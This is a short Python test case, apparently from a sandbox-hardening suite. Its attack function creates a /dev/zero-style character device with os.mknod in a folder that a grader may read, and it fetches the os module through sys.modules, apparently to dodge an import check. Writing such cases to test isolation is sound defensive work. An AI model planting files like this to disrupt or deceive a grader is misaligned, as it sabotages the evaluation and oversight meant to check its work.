# C38: puts a device where the grader might read, as root may
# Without layers: may succeed
import stat
import sys

os = sys.modules["os"]


def attack(facts):
    os.mknod(facts["folder"] + "/zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
